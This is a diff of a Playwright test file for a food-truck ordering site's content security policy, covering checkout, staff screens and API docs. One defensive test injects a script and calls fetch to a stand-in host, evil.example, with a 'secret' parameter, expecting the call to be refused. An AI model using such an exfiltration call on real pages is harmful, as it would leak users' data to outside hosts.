@@ -1,6 +1,5 @@
 import type { Page } from "@playwright/test";
-import { ADMIN_SCREENS, type AdminScreen, type Stage, setStage } from "../harness/admin-screens.ts";
-import { asOwner, enterAsAdminOf, enterAsOwnerOf } from "../harness/arrange.ts";
+import { openAs } from "../harness/accounts.ts";
 import {
   answerBank,
   CARDS,
@@ -12,15 +11,25 @@ import { watchConsole } from "../harness/console.ts";
 import { addToCart, goToCheckout, notifications } from "../harness/menu.ts";
 import { noisePng } from "../harness/pictures.ts";
 import { watchPolicy } from "../harness/policy.ts";
+import {
+  createStaffData,
+  openScreen,
+  STAFF_SCREENS,
+  type StaffData,
+} from "../harness/staff-screens.ts";
 import { expect, test } from "../harness/test.ts";
 
-test("a purchase with the bank's question breaks no rule of the pages", async ({ page, phone }) => {
+test("no page of a purchase with 3-D Secure breaks its content policy", async ({
+  page,
+  truck,
+  phone,
+}) => {
   const violations = await watchPolicy(page);
   const complaints = watchConsole(page);
   await page.goto("/");
-  await page.getByRole("link", { name: "Spicy Burritos" }).click();
-  await addToCart(page, "The Portland", {
-    options: ["Carnitas", "Medium", "Guacamole"],
+  await page.getByRole("link", { name: truck.name }).click();
+  await addToCart(page, "Garden Burrito", {
+    options: ["Carnitas", "Guacamole"],
     quantity: 2,
     instructions: "Cut in half",
   });
@@ -38,47 +47,47 @@ test("a purchase with the bank's question breaks no rule of the pages", async ({
   expect(complaints).toEqual([]);
 });
 
-test("no screen of a superadmin breaks one", async ({ page, product, sandbox, phone }) => {
+test("no screen of the staff area breaks its content policy", async ({
+  page,
+  newPage,
+  truck,
+  admin,
+  superadmin,
+}) => {
   test.slow();
-  const stage = await setStage(product, sandbox, phone);
-  await enterAsOwnerOf(page, product, stage.truck);
+  const data = await createStaffData(truck);
   const violations = await watchPolicy(page);
   const complaints = watchConsole(page);
-  await visit(page, stage, ADMIN_SCREENS);
-  await openDialogs(page);
-  for (const path of ["/admin/trucks/new", "/admin/ledger", "/admin/held-payments"]) {
-    await page.goto(path);
-    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  await openAs(page, admin);
+  await page.addInitScript(() => Object.assign(window, { print: () => undefined }));
+  for (const screen of STAFF_SCREENS.filter(({ isForSuperadmins }) => !isForSuperadmins)) {
+    await openScreen(page, screen, data);
   }
-  await page.goto("/admin/users");
-  await page.getByRole("button", { name: "Add staff" }).click();
-  await expect(page.getByRole("dialog", { name: "Add staff" })).toBeVisible();
+  await openRefund(page, data);
+  await openMenuDialogs(page, data);
+  await uploadImage(page, data);
   expect(violations).toEqual([]);
   expect(complaints).toEqual([]);
+
+  const second = await newPage();
+  const violationsOfSecond = await watchPolicy(second);
+  const complaintsOfSecond = watchConsole(second);
+  await openAs(second, superadmin, truck);
+  for (const screen of STAFF_SCREENS.filter(
+    ({ isForSuperadmins, name }) => isForSuperadmins || name === "dashboard",
+  )) {
+    await openScreen(second, screen, data);
+  }
+  await second.goto("/admin/users");
+  await second.getByRole("button", { name: "Add staff" }).click();
+  await expect(second.getByRole("dialog", { name: "Add staff" })).toBeVisible();
+  expect(violationsOfSecond).toEqual([]);
+  expect(complaintsOfSecond).toEqual([]);
 });
 
-test("no screen of a truck's admin breaks one", async ({ page, product, sandbox, phone }) => {
-  test.slow();
-  const stage = await setStage(product, sandbox, phone);
-  await enterAsAdminOf(page, product, stage.truck);
-  const { orders } = await asOwner<{ orders: { _id: string }[] }>(product, [
-    "GET",
-    `/orders?truckId=${stage.truck._id}`,
-  ]);
-  const violations = await watchPolicy(page);
-  const complaints = watchConsole(page);
-  await visit(
-    page,
-    stage,
-    ADMIN_SCREENS.filter(({ isSuperadmins }) => !isSuperadmins),
-  );
-  await workOrders(page, orders[0]?._id ?? "");
-  await uploadPicture(page, stage);
-  expect(violations).toEqual([]);
-  expect(complaints).toEqual([]);
-});
-
-test("the reader of the API and the developers' pages break none", async ({ page }) => {
+test("the API's and the developers' pages keep their policy, and what breaks one is stopped and seen", async ({
+  page,
+}) => {
   const violations = await watchPolicy(page);
   const complaints = watchConsole(page);
   await page.goto("/api/docs");
@@ -92,10 +101,7 @@ test("the reader of the API and the developers' pages break none", async ({ page
   }
   expect(violations).toEqual([]);
   expect(complaints).toEqual([]);
-});
 
-test("what does break the rules is stopped, and these journeys would see it", async ({ page }) => {
-  const violations = await watchPolicy(page);
   await page.goto("/");
   await page.evaluate(() => {
     const script = document.createElement("script");
@@ -116,61 +122,37 @@ test("what does break the rules is stopped, and these journeys would see it", as
       "style-src-elem",
     ]);
   expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
-  expect(await page.evaluate(calls)).toBe("refused");
+  expect(await page.evaluate(sendElsewhere)).toBe("refused");
+  expect(complaints).not.toEqual([]);
 });
 
-/** Whether data can be carried off to another site. */
-async function calls(): Promise<string> {
+/** Whether the page can send data to another site. */
+async function sendElsewhere(): Promise<string> {
   return fetch("https://evil.example/?secret=1").then(
     () => "sent",
     () => "refused",
   );
 }
 
-async function visit(page: Page, stage: Stage, screens: AdminScreen[]): Promise<void> {
-  for (const { path, content } of screens) {
-    await page.goto(path(stage));
-    await expect(content(page, stage)).toBeVisible();
-  }
+async function openRefund(page: Page, { order }: StaffData): Promise<void> {
+  await page.goto(`/admin/orders/${order._id}`);
+  await page.getByRole("button", { name: "Give money back" }).click();
+  await expect(page.getByRole("dialog", { name: "Give money back" })).toBeVisible();
 }
 
-async function openDialogs(page: Page): Promise<void> {
+async function openMenuDialogs(page: Page, { item }: StaffData): Promise<void> {
   await page.goto("/admin/menu");
-  await page.getByRole("button", { name: "Delete Skillet Hash" }).click();
+  await page.getByRole("button", { name: `Delete ${item.name}` }).click();
   await expect(page.getByRole("alertdialog")).toBeVisible();
   await page.keyboard.press("Escape");
   await page.getByRole("button", { name: "Import CSV" }).click();
   await expect(page.getByRole("dialog", { name: "Import menu" })).toBeVisible();
-  await page.keyboard.press("Escape");
-  await page.getByRole("button", { name: "Change Order" }).click();
-  await page.goto("/admin/analytics");
-  const hours = page.getByRole("region", { name: "By hour of day", exact: true });
-  await expect(hours.getByRole("img", { name: /^Revenue/ })).toBeVisible();
-  await hours.getByText("Orders", { exact: true }).click();
-  await expect(hours.getByRole("img", { name: /^Orders/ })).toBeVisible();
 }
 
-async function workOrders(page: Page, orderId: string): Promise<void> {
-  await page.goto("/admin/orders/new");
-  await page.getByRole("button", { name: /^Skillet Hash/ }).click();
-  await page.goto("/admin/kitchen");
-  await expect(page.getByRole("article", { name: /^Order #/ }).first()).toBeVisible();
-  await page.goto(`/admin/orders/${orderId}`);
-  await page.getByRole("button", { name: "Give money back" }).click();
-  await expect(page.getByRole("dialog", { name: "Give money back" })).toBeVisible();
-  await page.addInitScript(() => Object.assign(window, { print: () => undefined }));
-  for (const what of ["ticket", "receipt"]) {
-    await page.goto(`/admin/orders/${orderId}/print?what=${what}&paper=80`);
-    await expect(page.getByRole("article")).toBeVisible();
-    await page.emulateMedia({ media: "print" });
-    await page.emulateMedia({ media: "screen" });
-  }
-}
-
-async function uploadPicture(page: Page, { dishId }: Stage): Promise<void> {
-  await page.goto(`/admin/menu/edit/${dishId}`);
+async function uploadImage(page: Page, { item }: StaffData): Promise<void> {
+  await page.goto(`/admin/menu/edit/${item._id}`);
   await page.getByLabel("Choose a file for picture").setInputFiles(noisePng(900, 800));
   await expect(page.getByLabel("Picture: address")).toHaveValue(/-900\.webp$/);
   await page.getByRole("button", { name: "Save" }).click();
-  await expect(notifications(page)).toContainText("Skillet Hash saved");
+  await expect(notifications(page)).toContainText(`${item.name} saved`);
 }
